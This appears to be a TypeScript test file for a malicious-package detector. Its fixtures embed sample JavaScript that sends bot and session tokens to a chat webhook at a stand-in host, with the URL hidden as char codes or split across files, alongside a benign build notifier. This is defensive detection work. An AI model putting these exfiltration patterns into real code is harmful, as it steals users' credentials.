/**
 * Shapes from rounds 37–41, written blind by helpers that had not read the engine: each miss
 * rewritten small and varied, with a look-alike that must stay quiet.
 */
import { analyzeSource } from './helpers';

const pkg = (extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name: 'slash-relay', version: '1.4.0', main: 'index.js', ...extra });
const charCodes = (s: string) => [...s].map((c) => c.charCodeAt(0)).join(',');
const HOOK = 'https://chat.example/api/webhooks/1284771039284659200/qX7kLp2VnR8wZc4mTyJ1hG9eB5sD3fK6uA0iOzQx';

describe('a chat webhook written in the package, sent a credential by its field name', () => {
  it('a bot token posted in nested JSON to a webhook spelled as char codes (a spread of a long array)', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `const W = [${charCodes(HOOK)}];
const hook = () => String.fromCharCode(...W);
async function notify(payload) {
  await fetch(hook(), { method: 'POST', body: JSON.stringify({ content: '\`\`\`' + JSON.stringify(payload) + '\`\`\`' }) });
}
exports.sync = (client, guild) => notify({ bot: client.user.tag, token: client.token, guild: guild.id });`,
    });
    expect(r.risk_level).toBe('critical');
    expect(r.evidence.find((f) => f.rule === 'js.chat-webhook-exfil')).toMatchObject({ confidence: 0.85 });
  });
  it('the same with the credential in an object body and the address kept in a second file', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `const { target } = require('./cfg');
module.exports = function report(session) {
  const body = { fields: [{ name: 'who', value: session.user }], sessionToken: session.value };
  return fetch(target, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
};`,
      'cfg.js': `exports.target = ['https://chat.example', 'api', 'webhooks', '99887766554433', 'AbCdEfGhIjKlMnOp'].join('/');`,
    });
    expect(r.evidence.find((f) => f.rule === 'js.chat-webhook-exfil')).toMatchObject({ confidence: 0.85 });
  });
  it('quiet enough: a build notifier posting a status message (a warning for the written webhook only)', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `const URL = '${HOOK}';
exports.done = (build) => fetch(URL, { method: 'POST', body: JSON.stringify({ content: 'build ' + build.id + ' ' + build.status, key: build.cacheKey }) });`,
    });
    expect(r.evidence.find((f) => f.rule === 'js.chat-webhook-exfil')).toMatchObject({ confidence: 0.5 });
    expect(r.evidence.filter((f) => 'threat_type' in f && f.confidence >= 0.85)).toEqual([]);
  });
});
